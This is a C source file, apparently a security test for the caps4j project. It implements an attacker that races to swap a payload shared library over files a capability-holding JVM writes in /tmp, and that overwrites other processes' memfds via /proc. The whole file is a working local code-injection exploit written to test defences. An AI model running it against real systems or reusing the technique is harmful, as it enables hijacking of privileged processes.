/*
 * Copyright 2026 the caps4j authors
 * SPDX-License-Identifier: Apache-2.0
 */
/*
 * The attacker of issue 9, item 1: a process of the same uid as a capability-holding JVM that
 * tries to get its own library loaded in place of caps4j's shim.
 *
 *   shim_swapper PAYLOAD.so LOG SECONDS
 *
 * 1. inotify on /tmp and on every directory created there by our uid: a copy of PAYLOAD is
 *    staged in each new directory at once, and a regular file of our uid that is closed after
 *    writing is replaced by renaming the staged copy over it: the swap that took over the old
 *    loader's /tmp/caps4j-* copy.
 * 2. Every millisecond, every /proc/PID/fd/N of our uid that is a memfd: open it for writing and
 *    overwrite it with PAYLOAD (refused if the fd is sealed or the process holds capabilities
 *    we lack).
 * LOG gets "ready" once watching, then one line per thing seen or tried.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/sendfile.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define MAX_WATCHES 256

static const char *payload;
static FILE *log_file;
static int watch_ids[MAX_WATCHES];
static char watch_dirs[MAX_WATCHES][1024];
static int watch_count;
static ino_t placed[1024]; /* inodes of our own payload copies: never swap those again */
static int placed_count;

static void note(const char *format, const char *what, int err) {
    fprintf(log_file, format, what, err ? strerror(err) : "");
    fputc('\n', log_file);
    fflush(log_file);
}

static void watch(int inotify, const char *dir) {
    if (watch_count == MAX_WATCHES) return;
    int id = inotify_add_watch(inotify, dir, IN_CREATE | IN_CLOSE_WRITE | IN_MOVED_TO);
    if (id < 0) return;
    watch_ids[watch_count] = id;
    snprintf(watch_dirs[watch_count++], sizeof watch_dirs[0], "%.1000s", dir);
}

static int copy_payload(const char *target) {
    int in = open(payload, O_RDONLY | O_CLOEXEC);
    int out = open(target, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0755);
    struct stat st;
    int ok = in >= 0 && out >= 0 && fstat(in, &st) == 0
            && sendfile(out, in, NULL, st.st_size) == st.st_size;
    int err = errno;
    if (in >= 0) close(in);
    if (out >= 0) close(out);
    errno = err;
    return ok ? 0 : -1;
}

static void staged_name(char *staged, size_t size, const char *dir) {
    snprintf(staged, size, "%.700s/.swap-%d", dir, getpid());
}

/* Puts a copy of the payload into a new directory now, so a swap there is a single rename. */
static void stage(const char *dir) {
    char staged[1024];
    staged_name(staged, sizeof staged, dir);
    if (copy_payload(staged) != 0) note("staging in %s failed: %s", dir, errno);
}

/* Replaces DIR/NAME by the staged copy of the payload (rename is atomic within a directory). */
static void swap(const char *dir, const char *name) {
    char target[1024], staged[1024];
    snprintf(target, sizeof target, "%.700s/%.255s", dir, name);
    staged_name(staged, sizeof staged, dir);
    struct stat st;
    if ((access(staged, F_OK) == 0 || copy_payload(staged) == 0) && stat(staged, &st) == 0
            && rename(staged, target) == 0) {
        if (placed_count < 1024) placed[placed_count++] = st.st_ino;
        note("swapped %s%s", target, 0);
    } else {
        note("swap of %s failed: %s", target, errno);
        unlink(staged);
    }
}

static void on_event(int inotify, const struct inotify_event *event) {
    const char *dir = NULL;
    for (int i = 0; i < watch_count; i++)
        if (watch_ids[i] == event->wd) dir = watch_dirs[i];
    if (dir == NULL || event->len == 0 || strncmp(event->name, ".swap-", 6) == 0) return;
    char path[1024];
    snprintf(path, sizeof path, "%.700s/%.255s", dir, event->name);
    struct stat st;
    if (lstat(path, &st) != 0 || st.st_uid != getuid()) return; /* gone, or not our uid's */
    for (int i = 0; i < placed_count; i++)
        if (placed[i] == st.st_ino) return;
    if (event->mask & IN_CREATE) note("created by our uid: %s%s", path, 0);
    if (S_ISDIR(st.st_mode)) {
        watch(inotify, path);
        stage(path);
    } else if (S_ISREG(st.st_mode) && (event->mask & (IN_CLOSE_WRITE | IN_MOVED_TO))) {
        swap(dir, event->name);
    }
}

/* Tries to overwrite every memfd held by a process of our uid. */
static void attack_memfds(void) {
    static char seen[64][128];
    DIR *proc = opendir("/proc");
    struct dirent *p;
    while (proc && (p = readdir(proc)) != NULL) {
        if (p->d_name[0] < '1' || p->d_name[0] > '9' || atoi(p->d_name) == getpid()) continue;
        char fds[64];
        snprintf(fds, sizeof fds, "/proc/%.20s/fd", p->d_name);
        DIR *dir = opendir(fds); /* EACCES for a process holding capabilities we lack */
        struct dirent *f;
        while (dir && (f = readdir(dir)) != NULL) {
            char link[128], target[256];
            snprintf(link, sizeof link, "%.40s/%.20s", fds, f->d_name);
            ssize_t n = readlink(link, target, sizeof target - 1);
            if (n <= 0) continue;
            target[n] = 0;
            if (strncmp(target, "/memfd:", 7) != 0) continue;
            int fd = open(link, O_WRONLY | O_CLOEXEC);
            int err = errno;
            if (fd >= 0) {
                int in = open(payload, O_RDONLY | O_CLOEXEC);
                struct stat st;
                err = fstat(in, &st) == 0 && sendfile(fd, in, NULL, st.st_size) == st.st_size
                        ? 0 : errno;
                close(in);
                close(fd);
            }
            int logged = 0;
            for (int i = 0; i < 64 && seen[i][0]; i++) logged |= strcmp(seen[i], link) == 0;
            if (!logged) {
                for (int i = 0; i < 64; i++)
                    if (!seen[i][0]) { snprintf(seen[i], sizeof seen[i], "%.100s", link); break; }
                note(err ? "memfd %s not overwritten: %s" : "memfd %s OVERWRITTEN%s", link, err);
            }
        }
        if (dir) closedir(dir);
    }
    if (proc) closedir(proc);
}

int main(int argc, char **argv) {
    if (argc != 4) {
        fprintf(stderr, "usage: shim_swapper PAYLOAD.so LOG SECONDS\n");
        return 2;
    }
    payload = argv[1];
    log_file = fopen(argv[2], "a");
    if (log_file == NULL) { perror(argv[2]); return 2; }
    int inotify = inotify_init1(IN_CLOEXEC | IN_NONBLOCK);
    if (inotify < 0) { perror("inotify_init1"); return 2; }
    watch(inotify, "/tmp");
    note("ready%s%s", "", 0);
    time_t end = time(NULL) + atoi(argv[3]);
    char buffer[64 * 1024] __attribute__((aligned(__alignof__(struct inotify_event))));
    while (time(NULL) < end) {
        struct pollfd pfd = {.fd = inotify, .events = POLLIN};
        if (poll(&pfd, 1, 1) > 0) {
            ssize_t n = read(inotify, buffer, sizeof buffer);
            for (char *at = buffer; n > 0 && at < buffer + n;) {
                const struct inotify_event *event = (const struct inotify_event *) at;
                on_event(inotify, event);
                at += sizeof *event + event->len;
            }
            continue; /* the swap race comes first; scan /proc only when idle */
        }
        attack_memfds();
    }
    return 0;
}
